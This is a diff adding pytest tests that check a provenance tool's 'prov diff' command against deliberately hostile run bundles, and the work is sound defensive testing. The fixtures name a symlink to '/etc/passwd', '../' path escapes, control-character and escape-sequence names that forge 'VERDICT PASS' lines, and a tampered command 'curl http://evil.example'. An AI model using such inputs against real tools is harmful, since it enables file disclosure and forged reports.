@@ -1,0 +1,80 @@
+"""Hostile bundles against `prov diff` (issue 18 items 2, 7), each in its own copy, on either side of the
+comparison. A bundle that cannot be read safely (links, FIFOs, non-UTF-8 names, hostile JSON) is refused:
+exit status 2, one error line naming the file, no traceback, a deadline, nothing written anywhere. A bundle
+that is readable but lies (bad safetensors header, odd names) is compared without trusting it: no
+traceback, and no raw control character from its names reaches the report."""
+
+from __future__ import annotations
+
+import subprocess
+import sys
+from collections.abc import Callable
+from pathlib import Path
+
+import hostile as h
+import pytest
+from conftest import offline_env
+
+REFUSED: dict[str, tuple[Callable[[Path], None], tuple[str, ...]]] = {
+    "symlink out of the bundle": (h.symlink, ("logs/evil.jsonl: a symbolic link to '/etc/passwd'",)),
+    "FIFO": (h.fifo, ("logs/pipe.log: a FIFO",)),
+    ".x.tmp leftover symlinked to a folder": (h.tmp_link_to_folder, (".x.tmp: a symbolic link",)),
+    "non-UTF-8 file name": (h.non_utf8_name, ("bad-\\xff-name.txt", "not UTF-8")),
+    "deeply nested manifest": (h.deep_manifest, ("manifest.json: JSON nested too deeply",)),
+    "5,000-digit integer in a metrics line": (h.huge_int_metrics, ("logs/metrics.jsonl", "5000 digits")),
+    "deeply nested run.json": (h.deep_run_json, ("run.json", "nested")),
+    "deeply nested metrics line": (h.deep_metrics_line, ("logs/metrics.jsonl", "nested")),
+    "a release archive instead of a folder": (h.archive_with_link, ("not a run bundle",)),
+}
+
+
+@pytest.mark.parametrize("side", ["A", "B"])
+@pytest.mark.parametrize("case", list(REFUSED))
+def test_prov_diff_refuses_a_hostile_bundle(tiny_bundle: Path, tmp_path: Path, case: str, side: str,
+                                             capsys: pytest.CaptureFixture[str],
+                                             monkeypatch: pytest.MonkeyPatch) -> None:
+    make, words = REFUSED[case]
+    box = h.Box(tiny_bundle, tmp_path, make)
+    pair = [str(box.bundle), str(tiny_bundle)] if side == "A" else [str(tiny_bundle), str(box.bundle)]
+    rc, out, err = box.call(["diff", *pair], capsys, monkeypatch)
+    assert rc == 2, (rc, out[-2000:], err[-2000:])
+    h.assert_one_error_line(err, *words)
+    h.assert_printable(out + err)
+    box.check()
+
+
+COMPARED: dict[str, tuple[Callable[[Path], None], str]] = {
+    "safetensors header claiming 2^60 bytes": (h.header_claims_2_60, "model/model.safetensors"),
+    "checkpoint named step-abc.safetensors": (h.checkpoint_step_abc, "model: same"),
+    "checkpoint index pointing outside": (h.index_points_outside, "checkpoints:"),
+    "recorded command not bound by its digest": (h.tampered_command, "curl http://evil.example"),
+    "code snapshot with a ../ member": (h.escaping_snapshot, "../escaped.py (only in A)"),
+    "control characters in names and keys": (h.control_characters_in_names, "evil\\nVERDICT      PASS\\x1b[2J.py"),
+    "newline in a resource name": (h.forged_pass_line, "model: same"),
+}
+
+
+@pytest.mark.parametrize("case", list(COMPARED))
+def test_prov_diff_compares_a_lying_bundle_without_trusting_it(tiny_bundle: Path, tmp_path: Path, case: str,
+                                                                capsys: pytest.CaptureFixture[str],
+                                                                monkeypatch: pytest.MonkeyPatch) -> None:
+    make, says = COMPARED[case]
+    box = h.Box(tiny_bundle, tmp_path, make)
+    rc, out, err = box.call(["diff", str(box.bundle), str(tiny_bundle)], capsys, monkeypatch)
+    assert rc == 0 and err == "", (rc, err[-2000:])
+    assert says in out, out[-3000:]
+    h.assert_printable(out)
+    lines = out.splitlines()
+    assert lines[0].startswith("A: ") and lines[1].startswith("B: ")  # no forged line among the report's
+    assert not any(x.startswith(("INTEGRITY", "VERDICT")) for x in lines)
+    box.check()
+
+
+def test_prov_diff_refuses_at_the_process_boundary(tiny_bundle: Path, tmp_path: Path) -> None:
+    box = h.Box(tiny_bundle, tmp_path, h.fifo)
+    env = {**offline_env(tmp_path / "work" / ".env-unused"), "TMPDIR": str(box.tmp)}
+    proc = subprocess.run([sys.executable, "-m", "provenance.cli", "diff", str(tiny_bundle), str(box.bundle)],
+                          cwd=box.work, env=env, capture_output=True, text=True, timeout=h.TIMEOUT)
+    assert proc.returncode == 2 and "Traceback" not in proc.stdout + proc.stderr, proc.stderr
+    h.assert_one_error_line(proc.stderr, "logs/pipe.log: a FIFO")
+    box.check()
